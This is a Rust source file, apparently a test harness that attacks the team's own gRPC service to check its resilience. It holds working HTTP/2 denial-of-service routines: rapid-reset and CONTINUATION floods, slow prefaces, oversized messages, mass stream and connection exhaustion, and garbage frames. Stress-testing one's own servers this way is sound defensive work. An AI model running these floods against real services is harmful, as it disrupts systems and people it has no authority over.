//! The attacks. Each leaves when it is done; what it opened is closed with it.

use std::{future::Future, net::SocketAddr, pin::Pin, time::Duration};

use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};
use wan_matrix::grpc::proto::{BatchRequestWanMatrixRequest, Location, location::Kind};

pub(crate) type Attack = fn(SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>>;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

async fn connect(addr: SocketAddr, window: u32) -> SendRequest<Bytes> {
    let stream = TcpStream::connect(addr).await.unwrap();
    let (send, connection) = h2::client::Builder::new().initial_window_size(window).handshake(stream).await.unwrap();
    tokio::spawn(connection);
    send
}

fn request(method: &str) -> http::Request<()> {
    http::Request::post(format!("http://localhost/wanmatrix.v1.WanMatrixService/{method}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap()
}

/// A thousand locations, as gRPC frames them.
fn batch() -> Bytes {
    let location = Location { kind: Some(Kind::Postcode("AA1 1AA".to_owned())) };
    let message = BatchRequestWanMatrixRequest { locations: vec![location; 1000], as_of_date: String::new() };
    let bytes = prost::Message::encode_to_vec(&message);
    let mut framed = vec![0];
    framed.extend(u32::try_from(bytes.len()).unwrap().to_be_bytes());
    framed.extend(bytes);
    framed.into()
}

/// Calls that are taken back as soon as they are sent, as fast as they go, until the server has had enough.
pub(crate) fn rapid_reset(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let message = batch();
        for _ in 0..5 {
            let mut send = connect(addr, 65_535).await;
            for _ in 0..4000 {
                let Ok(ready) = send.ready().await else { break };
                send = ready;
                let Ok((_, mut body)) = send.send_request(request("BatchRequestWanMatrix"), false) else { break };
                let _sent = body.send_data(message.clone(), false);
                body.send_reset(Reason::CANCEL);
            }
        }
    })
}

/// A head that comes a frame at a time and does not end, and a connection preface that comes a byte at a time.
pub(crate) fn slow_headers(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let mut slow = JoinSet::new();
        for number in 0..50 {
            slow.spawn(async move {
                let mut stream = TcpStream::connect(addr).await.unwrap();
                if number % 2 == 0 {
                    for byte in PREFACE.iter().take(12) {
                        if stream.write_all(&[*byte]).await.is_err() {
                            return;
                        }
                        sleep(Duration::from_millis(250)).await;
                    }
                    return;
                }
                stream.write_all(PREFACE).await.unwrap();
                // SETTINGS, empty; then HEADERS of stream 1 without END_HEADERS, and CONTINUATIONs without end.
                stream.write_all(&[0, 0, 0, 4, 0, 0, 0, 0, 0]).await.unwrap();
                stream.write_all(&[0, 0, 1, 1, 0, 0, 0, 0, 1, 0x83]).await.unwrap();
                for _ in 0..30 {
                    // A literal header field that is never indexed: `x: y`.
                    if stream.write_all(&[0, 0, 5, 9, 0, 0, 0, 0, 1, 0x10, 1, b'x', 1, b'y']).await.is_err() {
                        return;
                    }
                    sleep(Duration::from_millis(100)).await;
                }
            });
        }
        while let Some(ended) = slow.join_next().await {
            ended.unwrap();
        }
    })
}

/// A message that says it has 100 MB, and sends them if anybody takes them.
pub(crate) fn huge_message(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        const BYTES: u32 = 100 << 20;
        for method in ["RequestWanMatrix", "BatchRequestWanMatrix"] {
            let mut send = connect(addr, 65_535).await.ready().await.unwrap();
            let (answer, mut body) = send.send_request(request(method), false).unwrap();
            let mut head = vec![0];
            head.extend(BYTES.to_be_bytes());
            body.send_data(head.into(), false).unwrap();
            let chunk = Bytes::from(vec![0_u8; 1 << 20]);
            let sending = async {
                for _ in 0..100 {
                    body.reserve_capacity(chunk.len());
                    let given = std::future::poll_fn(|cx| body.poll_capacity(cx)).await;
                    let Some(Ok(given)) = given else { return };
                    if body.send_data(chunk.slice(..given.min(chunk.len())), false).is_err() {
                        return;
                    }
                }
            };
            // Refused by its length, before the bytes have come.
            let _sent = timeout(Duration::from_secs(3), sending).await;
            let answer = timeout(Duration::from_secs(3), answer).await.unwrap().unwrap();
            assert_eq!(answer.headers()["grpc-status"], "11", "{method}: {answer:?}");
        }
    })
}

/// 10,000 calls that never send their message, over 40 connections.
pub(crate) fn many_streams(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let mut held = Vec::new();
        for number in 0..40 {
            let method = if number % 2 == 0 { "RequestWanMatrix" } else { "BatchRequestWanMatrix" };
            let mut send = connect(addr, 65_535).await;
            for _ in 0..250 {
                send = send.ready().await.unwrap();
                held.push(send.send_request(request(method), false).unwrap());
            }
            held.shrink_to_fit();
        }
        assert_eq!(held.len(), 10_000);
        sleep(Duration::from_secs(1)).await;
    })
}

/// Batches whose replies are asked for and not read.
pub(crate) fn unread_replies(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let message = batch();
        let mut held = Vec::new();
        for _ in 0..10 {
            let mut send = connect(addr, 0).await;
            for _ in 0..100 {
                let Ok(ready) = send.ready().await else { break };
                send = ready;
                let Ok((answer, mut body)) = send.send_request(request("BatchRequestWanMatrix"), false) else { break };
                if body.send_data(message.clone(), true).is_err() {
                    break;
                }
                held.push((answer, body));
            }
        }
        sleep(Duration::from_secs(1)).await;
    })
}

/// Bytes that are no HTTP/2, and frames that make no sense.
pub(crate) fn garbage(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let mut state = 7_u64;
        let mut noise = |length: usize| -> Vec<u8> {
            let next = |_| {
                state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                (state >> 56) as u8
            };
            (0..length).map(next).collect()
        };
        for round in 0..200 {
            let mut bytes = if round % 2 == 0 { Vec::new() } else { PREFACE.to_vec() };
            // After the preface, frames whose length and type are as they may be.
            for _ in 0..20 {
                bytes.extend([0, 0, 16]);
                bytes.extend(noise(22));
            }
            let mut stream = TcpStream::connect(addr).await.unwrap();
            let _reset = stream.write_all(&bytes).await;
            let mut rest = Vec::new();
            // It closes, or says what it thinks of it.
            let _closed = timeout(Duration::from_millis(50), stream.read_to_end(&mut rest)).await;
        }
    })
}

/// Connections that say nothing at all: three times as many as may shake hands at once.
pub(crate) fn half_open(addr: SocketAddr) -> Pin<Box<dyn Future<Output = ()> + Send>> {
    Box::pin(async move {
        let mut silent = Vec::new();
        for _ in 0..300 {
            silent.push(TcpStream::connect(addr).await.unwrap());
        }
        sleep(Duration::from_secs(1)).await;
        // Within its handshake's time each is closed from the other side.
        for mut one in silent {
            let mut rest = Vec::new();
            let _reset = timeout(Duration::from_secs(10), one.read_to_end(&mut rest)).await.unwrap();
        }
    })
}
